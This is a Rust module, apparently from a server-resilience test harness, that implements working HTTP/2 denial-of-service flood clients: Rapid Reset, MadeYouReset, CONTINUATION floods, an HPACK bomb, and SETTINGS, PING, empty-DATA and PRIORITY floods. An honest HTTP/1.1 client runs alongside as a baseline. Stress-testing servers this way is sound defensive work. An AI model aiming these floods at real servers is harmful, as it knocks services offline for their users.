//! Hostile clients of HTTP/2 without TLS (RFC 9113 §10.5), as fast as they can: each opens a connection, floods it as long as
//! anything is taken, and opens the next as soon as that is closed.

use std::{
    io::{self, ErrorKind, Read as _, Write as _},
    net::TcpStream,
    thread,
    time::{Duration, Instant},
};

use nix::sys::socket::{setsockopt, sockopt};

use super::{super::process::pause, talk::Ends};

/// So much is sent at once.
const CHUNK_BYTES: usize = 16 * 1024;

/// How often a client that nothing is taken of looks whether it is over.
const LOOK_EVERY: Duration = Duration::from_millis(20);

/// What the kernel keeps of what was not taken yet: on the machines of a flood that would cost the router nothing, and here
/// it would take time of the core that the good client needs.
const SEND_BUFFER_BYTES: usize = 64 * 1024;

/// An answer comes sooner.
const READ_LIMIT: Duration = Duration::from_secs(1);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frames (RFC 9113 §6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET / HTTP`, by the static table of HPACK, and `:authority: localhost` as a literal that is not indexed.
const GET: &[u8] = b"\x82\x86\x84\x01\x09localhost";

/// What a flood is made of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    /// None: one good request of HTTP/1.1 after the other, to compare with.
    Honest,
    /// Each stream is reset as soon as it is opened.
    RapidReset,
    /// Each stream is made to be reset by the server, by a window that is widened by nothing.
    MadeYouReset,
    /// A header block that never ends, in small frames.
    Continuation,
    /// A field of 4,000 bytes is put into the table, and then named 16,000 times in each block.
    HpackBomb,
    Settings,
    Ping,
    /// Frames of data with nothing in them.
    EmptyData,
    Priority,
}

impl Kind {
    pub(super) const ALL: [Self; 9] = [
        Self::Honest,
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::HpackBomb,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::Priority,
    ];

    /// As a word of the role.
    pub(super) fn word(self) -> &'static str {
        match self {
            Self::Honest => "honest",
            Self::RapidReset => "rapid-reset",
            Self::MadeYouReset => "made-you-reset",
            Self::Continuation => "continuation",
            Self::HpackBomb => "hpack-bomb",
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::EmptyData => "empty-data",
            Self::Priority => "priority",
        }
    }

    /// What opens the connection, beside the preface.
    fn opening(self) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        frame(SETTINGS, 0, 0, &[], &mut out);
        match self {
            Self::Continuation => frame(HEADERS, 0, 1, GET, &mut out),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, GET, &mut out),
            Self::HpackBomb => {
                // A literal with incremental indexing, of 4,000 bytes: 127 + 3,873 as an integer with a prefix of 7 bits.
                let field = [&b"\x40\x01x\x7f\xa1\x1e"[..], &[b'a'; 4_000]].concat();
                frame(HEADERS, END_HEADERS | END_STREAM, 1, &[GET, &field].concat(), &mut out);
            }
            _ => {}
        }
        out
    }

    /// What is sent again and again; the streams go on from `stream`.
    fn chunk(self, stream: &mut u32, out: &mut Vec<u8>) {
        let mut next = || {
            *stream += 2;
            *stream
        };
        while out.len() < CHUNK_BYTES {
            match self {
                Self::Honest => {}
                Self::RapidReset => {
                    let id = next();
                    frame(HEADERS, END_HEADERS | END_STREAM, id, GET, out);
                    frame(RST_STREAM, 0, id, &8_u32.to_be_bytes(), out);
                }
                Self::MadeYouReset => {
                    let id = next();
                    frame(HEADERS, END_HEADERS | END_STREAM, id, GET, out);
                    frame(WINDOW_UPDATE, 0, id, &[0; 4], out);
                }
                // A literal that is not indexed: `x: y`.
                Self::Continuation => frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y", out),
                Self::HpackBomb => {
                    let block = [GET, &[0xbe; CHUNK_BYTES - 100]].concat();
                    frame(HEADERS, END_HEADERS | END_STREAM, next(), &block, out);
                }
                Self::Settings => frame(SETTINGS, 0, 0, &[], out),
                Self::Ping => frame(PING, 0, 0, &[7; 8], out),
                Self::EmptyData => frame(DATA, 0, 1, &[], out),
                Self::Priority => frame(PRIORITY, 0, next(), &[0, 0, 0, 0, 7], out),
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// What a flood came to.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Flooded {
    /// Connections that were opened.
    pub(super) opened: u64,
    /// Those of them that the server has closed; of the honest one, answers.
    pub(super) closed: u64,
    /// What was taken of it.
    pub(super) bytes: u64,
}

impl Flooded {
    /// Reads what the role printed.
    pub(super) fn parse(text: &str) -> Option<Self> {
        let figures: Vec<u64> = text.split_whitespace().map(str::parse).collect::<Result<_, _>>().ok()?;
        let [opened, closed, bytes] = figures[..] else { return None };
        Some(Self { opened, closed, bytes })
    }
}

/// What the role is told.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Flood {
    pub(super) kind: Kind,
    pub(super) ends: Ends,
    /// At once.
    pub(super) connections: u16,
    /// It begins so much later.
    pub(super) after: Duration,
    pub(super) lasts: Duration,
}

impl Flood {
    pub(super) fn words(self) -> [String; 5] {
        let ms = |time: Duration| time.as_millis().to_string();
        [self.kind.word().to_owned(), self.ends.word(), self.connections.to_string(), ms(self.after), ms(self.lasts)]
    }

    fn parse(words: &[&str]) -> Option<Self> {
        let [kind, ends, connections, after, lasts] = words else { return None };
        let ms = |word: &str| word.parse().ok().map(Duration::from_millis);
        Some(Self {
            kind: Kind::ALL.into_iter().find(|known| known.word() == *kind)?,
            ends: Ends::parse(ends)?,
            connections: connections.parse().ok()?,
            after: ms(after)?,
            lasts: ms(lasts)?,
        })
    }
}

/// Plays the role.
pub(in super::super) fn play(words: &[&str]) -> io::Result<()> {
    let invalid = || {
        let wanted = "a kind, an address and a port, connections, and two times in milliseconds are wanted";
        io::Error::new(ErrorKind::InvalidInput, wanted)
    };
    let Flood { kind, ends, connections, after, lasts } = Flood::parse(words).ok_or_else(invalid)?;
    pause(after);
    let end = Instant::now() + lasts;
    let threads: Vec<_> = (0..connections)
        .map(|_| thread::spawn(move || if kind == Kind::Honest { honest(ends, end) } else { flood(kind, ends, end) }))
        .collect();
    let mut all = Flooded::default();
    for thread in threads {
        let one = thread.join().map_err(|_| io::Error::other("a thread of it panicked"))??;
        all.opened += one.opened;
        all.closed += one.closed;
        all.bytes += one.bytes;
    }
    writeln!(io::stdout().lock(), "{} {} {}", all.opened, all.closed, all.bytes)
}

fn flood(kind: Kind, ends: Ends, end: Instant) -> io::Result<Flooded> {
    let (mut flooded, mut chunk, mut heard) = (Flooded::default(), Vec::new(), vec![0; CHUNK_BYTES]);
    while Instant::now() < end {
        let mut client = connect(ends)?;
        flooded.opened += 1;
        let mut stream = 1;
        chunk.clear();
        chunk.extend_from_slice(&kind.opening());
        while Instant::now() < end {
            kind.chunk(&mut stream, &mut chunk);
            let is_over = send(&mut client, &chunk, &mut heard, end, &mut flooded.bytes);
            if is_over || is_closed(&mut client, &mut heard) {
                flooded.closed += 1;
                break;
            }
            chunk.clear();
        }
    }
    Ok(flooded)
}

/// Sends all of it, or as much as is taken until the end, and counts that. Was the connection closed?
fn send(client: &mut TcpStream, mut chunk: &[u8], heard: &mut [u8], end: Instant, bytes: &mut u64) -> bool {
    while !chunk.is_empty() {
        match client.write(chunk) {
            Ok(sent) => {
                chunk = &chunk[sent..];
                *bytes += sent as u64;
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                if Instant::now() >= end {
                    return false;
                }
                if is_closed(client, heard) {
                    return true;
                }
            }
            Err(_) => return true,
        }
    }
    false
}

/// Takes what has come, without waiting. Was that the end?
fn is_closed(client: &mut TcpStream, heard: &mut [u8]) -> bool {
    if client.set_nonblocking(true).is_err() {
        return true;
    }
    let closed = loop {
        match client.read(heard) {
            Ok(0) => break true,
            Ok(_) => {}
            Err(error) => break error.kind() != ErrorKind::WouldBlock,
        }
    };
    closed || client.set_nonblocking(false).is_err()
}

fn honest(ends: Ends, end: Instant) -> io::Result<Flooded> {
    let (mut client, mut flooded, mut heard) = (connect(ends)?, Flooded::default(), vec![0; CHUNK_BYTES]);
    flooded.opened = 1;
    let request = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n";
    while Instant::now() < end {
        client.write_all(request)?;
        // The answer is small, and comes in one piece.
        if client.read(&mut heard)? == 0 {
            return Err(io::Error::other("an honest client was closed"));
        }
        flooded.closed += 1;
        flooded.bytes += request.len() as u64;
    }
    Ok(flooded)
}

fn connect(ends: Ends) -> io::Result<TcpStream> {
    let client = ends.connect()?;
    setsockopt(&client, sockopt::SndBuf, &SEND_BUFFER_BYTES)?;
    client.set_nodelay(true)?;
    client.set_write_timeout(Some(LOOK_EVERY))?;
    client.set_read_timeout(Some(READ_LIMIT))?;
    Ok(client)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_flood_is_frames_one_behind_the_other() {
        for kind in Kind::ALL.into_iter().filter(|kind| *kind != Kind::Honest) {
            let mut bytes = kind.opening().split_off(PREFACE.len());
            kind.chunk(&mut 1, &mut bytes);
            let (mut rest, mut frames) = (&bytes[..], 0);
            while let Some((head, behind)) = rest.split_first_chunk::<9>() {
                let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
                assert!(length <= 16_384, "{kind:?}: {length}");
                rest = &behind[length..];
                frames += 1;
            }
            assert!(rest.is_empty() && frames >= 2, "{kind:?}: {frames} frames");
        }
    }

    #[test]
    fn what_it_is_told_and_what_it_came_to_is_read_back() {
        assert_eq!(Flooded::parse("5 3 17\n"), Some(Flooded { opened: 5, closed: 3, bytes: 17 }));
        assert_eq!(Flooded::parse("3 4"), None);
        let ms = Duration::from_millis;
        let ends = Ends { from: [127, 2, 0, 1].into(), port: 80 };
        let flood = Flood { kind: Kind::Ping, ends, connections: 4, after: ms(350), lasts: ms(1_200) };
        let words = flood.words();
        assert_eq!(Flood::parse(&words.each_ref().map(String::as_str)), Some(flood));
        assert_eq!(Flood::parse(&["ping", "80", "4", "0", "1"]), None);
    }
}
